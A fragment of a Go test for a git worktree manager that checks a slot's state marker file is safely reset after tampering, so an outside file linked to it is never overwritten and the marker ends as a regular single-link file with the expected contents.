			dir, r := newRepo(t, map[string]string{"a.txt": "a\n"})
			ctx := t.Context()
			base := git(t, dir, "rev-parse", "HEAD")
			marker := filepath.Join(dir, ".git", "codemachine", "worktrees", "slot-0.state")
			outside := filepath.Join(t.TempDir(), "outside")
			const outsideContent = "clean " + "0123456789012345678901234567890123456789\n"
			if err := os.WriteFile(outside, []byte(outsideContent), 0o644); err != nil {
				t.Fatal(err)
			}
			w := mustWorktree(t, r, 0, base)
			if _, err := w.Stage(ctx); err != nil {
				t.Fatal(err)
			}
			if err := w.Finish(ctx, base); err != nil {
				t.Fatal(err)
			}
			tc.tamper(t, marker, outside)
			first, err := os.Lstat(marker)
			if err != nil {
				t.Fatal(err)
			}
			before := r.ncmd.Load()
			w = mustWorktree(t, r, 0, base)
			if forced := r.ncmd.Load() != before; forced != tc.forced {
				t.Errorf("the hand-out ran git: %v, want %v", forced, tc.forced)
			}
			if data, err := os.ReadFile(marker); err == nil && len(data) != 0 {
				t.Errorf("the marker of a slot in use holds %q", data)
			}
			if inUse, err := os.Lstat(marker); tc.sameInode && (err != nil || !os.SameFile(first, inUse)) {
				t.Errorf("the hand-out did not empty the marker in place: %v", err)
			}
			if _, err := w.Stage(ctx); err != nil {
				t.Fatal(err)
			}
			if err := w.Finish(ctx, base); err != nil {
				t.Fatal(err)
			}
			if data, err := os.ReadFile(outside); err != nil || string(data) != outsideContent {
				t.Errorf("the other file = %q, %v; want it untouched", data, err)
			}
			st, err := os.Lstat(marker)
			if err != nil {
				t.Fatal(err)
			}
			if !st.Mode().IsRegular() || st.Sys().(*syscall.Stat_t).Nlink != 1 {
				t.Errorf("the marker is %v with %d names, want a regular file of one", st.Mode(), st.Sys().(*syscall.Stat_t).Nlink)
			}
			if same := os.SameFile(first, st); same != tc.sameInode {
				t.Errorf("Finish wrote into the marker's file: %v, want %v", same, tc.sameInode)
			}
			if data, err := os.ReadFile(marker); err != nil || string(data) != "clean "+base+"\n" {
				t.Errorf("the marker = %q, %v", data, err)
			}
		})
	}
}
